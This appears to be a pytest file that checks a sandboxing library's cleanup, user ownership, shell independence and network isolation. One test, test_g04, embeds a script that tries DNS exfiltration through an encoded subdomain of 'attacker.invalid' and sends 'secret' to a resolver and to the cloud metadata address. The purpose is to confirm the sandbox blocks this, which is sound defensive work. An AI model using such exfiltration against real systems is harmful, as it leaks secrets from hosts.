"""Field reports about sandboxes that no other test holds as they were told."""

import os
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Mapping
from pathlib import Path

import anyio
import pytest
from tests.kit.require import require
from tests.kit.sandboxes import RUNGS, on_rungs, open_rig
from tests.security.escapes.ordinary import PYTHON, readable_copies

from gloveport.sandbox.contract import Claim, ResultKind
from gloveport.sandbox.profile import Limits

COMMANDS = 50
NOBODY = 635438412
"""An id that no machine has an entry for."""
KILLED_IN_HALF = r"""
import asyncio, sys
from pathlib import Path
from gloveport.sandbox.backends.select import open_backend
from gloveport.sandbox.contract import Command
from gloveport.sandbox.profile import Access, Limits, Mount, Profile
async def main(folder, count, kill_half):
    backend = open_backend("bubblewrap", folder / "runs")
    profile = Profile("t", "build", (Mount(str(folder / "project"), "/home/user/project", Access.READ_WRITE),),
                      "/home/user/project", Limits(wall_s=60.0), grace_s=0.2)
    assert (await backend.probe()).ok
    leases = []
    for number in range(count):
        lease = await backend.prepare(profile, f"l{number}")
        waits_s = 30 if kill_half and number % 2 else 0
        words = f"mktemp >/dev/null; touch /dev/shm/{folder.name}; sleep {waits_s}"
        execution = await lease.start(Command(("sh", "-c", words), f"r{number}"))
        leases.append(lease)
        if not (kill_half and number % 2):
            await execution.result()
            await lease.release()
    print("ready", flush=True)
    if kill_half: await asyncio.sleep(60)
    await backend.close()
asyncio.run(main(Path(sys.argv[1]), int(sys.argv[2]), sys.argv[3] == "kill"))
"""


def names(*folders: Path) -> Mapping[str, frozenset[str]]:
    """What lies directly in folders of this machine."""
    return {str(folder): frozenset(os.listdir(folder)) for folder in folders}


@pytest.fixture
def place() -> Iterator[Path]:
    """A short folder with a project of git's and a sibling."""
    folder = Path(tempfile.mkdtemp(prefix="gp-", dir="/tmp"))
    try:
        for name in ("project", "sibling"):
            (folder / name).mkdir()
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def kill_in_half(place: Path) -> None:
    """A program that starts commands, ended while every second one runs."""
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(path for path in sys.path if path)}
    argv = [sys.executable, "-c", KILLED_IN_HALF, str(place), str(COMMANDS), "kill"]
    with subprocess.Popen(argv, stdout=subprocess.PIPE, env=environment) as helper:
        assert helper.stdout is not None
        assert helper.stdout.readline() == b"ready\n"
        helper.kill()


async def test_c04_fifty_commands_half_of_them_killed_leave_nothing(place: Path) -> None:
    """Nothing new in the machine's temporary folders, in the project or beside it; the next start sweeps the rest."""
    require(shutil.which("git") is not None, "git is not installed")
    subprocess.run(["git", "init", "-q", str(place / "project")], check=True)
    watched = (place / "project", place / "sibling")
    before = names(*watched)
    kill_in_half(place)
    async with open_rig("bubblewrap") as rig:
        other = rig.open(place / "runs")
        await other.reap()
        with anyio.fail_after(60):
            while left := [path for path in (place / "runs").rglob("*") if path.is_file()]:
                await other.sweep(frozenset())
                await anyio.sleep(0.1)
        await other.close()
    assert left == []
    assert names(*watched) == before
    assert not Path("/dev/shm", place.name).exists()
    status = ["git", "-C", str(place / "project"), "status", "--porcelain"]
    assert subprocess.run(status, capture_output=True, check=True).stdout == b""
    assert not any(name == ".git" for name in os.listdir("/tmp"))


OTHER_USER = r"""
import asyncio, json, os, sys
from pathlib import Path
from gloveport.sandbox.backends.select import open_backend
from gloveport.sandbox.contract import Command
from gloveport.sandbox.profile import Access, Limits, Mount, Profile
async def main(folder, rung):
    (folder / "project").mkdir()
    backend = open_backend(rung, folder / "runs")
    found = await backend.probe()
    if not found.ok:
        print(json.dumps([found.reason])); return
    profile = Profile("t", "build", (Mount(str(folder / "project"), str(folder / "project"), Access.READ_WRITE),),
                      str(folder / "project"), Limits(wall_s=60.0))
    lease = await backend.prepare(profile, "l")
    words = "id -u; whoami 2>/dev/null; echo x > made; mkdir sub"
    result = await (await lease.start(Command(("sh", "-c", words), "r"))).result()
    await lease.release(); await backend.close()
    owners = {os.lstat(folder / "project" / name).st_uid for name in ("made", "sub")}
    (folder / "project/made").write_text("edited outside")
    print(json.dumps([result.output.decode().split()[0], sorted(owners)]))
asyncio.run(main(Path(sys.argv[1]), sys.argv[2]))
"""


@pytest.mark.parametrize("rung", ["process", "bubblewrap"])
def test_c06_works_for_a_user_without_a_passwd_entry_and_files_are_theirs(rung: str) -> None:
    with readable_copies() as folder:
        os.chown(folder / "field", NOBODY, NOBODY)
        environment = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(folder / "lib"), "HOME": "/nonexistent"}
        argv = [PYTHON, "-S", "-B", "-c", OTHER_USER, str(folder / "field"), rung]
        done = subprocess.run(
            argv, env=environment, user=NOBODY, group=NOBODY, extra_groups=[], cwd="/", capture_output=True, text=True,
            timeout=60, check=False,
        )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == f'["{NOBODY}", [{NOBODY}]]', done.stdout


@pytest.mark.parametrize("rung", on_rungs("bubblewrap", "docker", "gvisor"))
async def test_c06_git_takes_the_project_inside_for_the_users_own(rung: str) -> None:
    """No "dubious ownership", and what is committed belongs to the user: inside and outside the owner is one."""
    require(shutil.which("git") is not None, "git is not installed")
    script = "git add a && git -c user.name=a -c user.email=b commit -qm x && git log --oneline | wc -l"
    async with open_rig(rung) as rig:
        subprocess.run(["git", "init", "-q", str(rig.project)], check=True)
        (rig.project / "a").write_text("x")
        lease = await rig.lease()
        done = await (await rig.start_raw(lease, ("sh", "-c", script))).result()
        await lease.release()
        owners = {path.lstat().st_uid for path in rig.project.rglob("*")}
    assert done.output.split() == [b"1"], done
    assert owners == {os.geteuid()}


@pytest.mark.parametrize("shell", ["bash", "sh", "zsh", "fish"])
async def test_c08_both_lines_come_whatever_the_users_shell_is(shell: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The shell of the user is no part of a run."""
    monkeypatch.setenv("SHELL", f"/bin/{shell}")
    async with open_rig("bubblewrap") as rig:
        lease = await rig.lease()
        words = ("sh", "-c", "echo test1 && echo test2")
        assert (await (await rig.start_raw(lease, words)).result()).output == b"test1\ntest2\n"
        late = await rig.start_raw(lease, ("sh", "-c", "sleep 1.2; echo late"))
        assert (await late.result()).output == b"late\n", "a silent build is no hung one"
        await lease.release()


@pytest.mark.parametrize("rung", on_rungs(*RUNGS))
async def test_g04_no_name_leads_outside_where_nothing_is_listed(rung: str) -> None:
    """Neither by the C library nor by a question to a resolver; the machine's own resolver hears nothing."""
    source = (
        "import socket\n"
        "try: print('resolved', socket.getaddrinfo('c2VjcmV0.attacker.invalid', 80))\n"
        "except OSError: print('no')\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try: s.sendto(b'secret', ('127.0.0.1', PORT))\n"
        "except OSError: pass\n"
        "for address in ('192.0.2.53', '169.254.169.254'):\n"
        "    try: s.sendto(b'secret', (address, 53)); print('sent', address)\n"
        "    except OSError: pass\n"
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.bind(("127.0.0.1", 0))
        resolver.setblocking(False)
        async with open_rig(rung) as rig:
            port = str(resolver.getsockname()[1])
            result = await rig.python(source.replace("PORT", port), limits=Limits(wall_s=60.0))
            closed = Claim.NO_NETWORK in rig.availability.holds
        assert result.kind is ResultKind.OK, result.output
        heard = True
        try:
            resolver.recv(64)
        except BlockingIOError:
            heard = False
    assert heard != closed
    if closed:
        assert result.output == b"no\n"
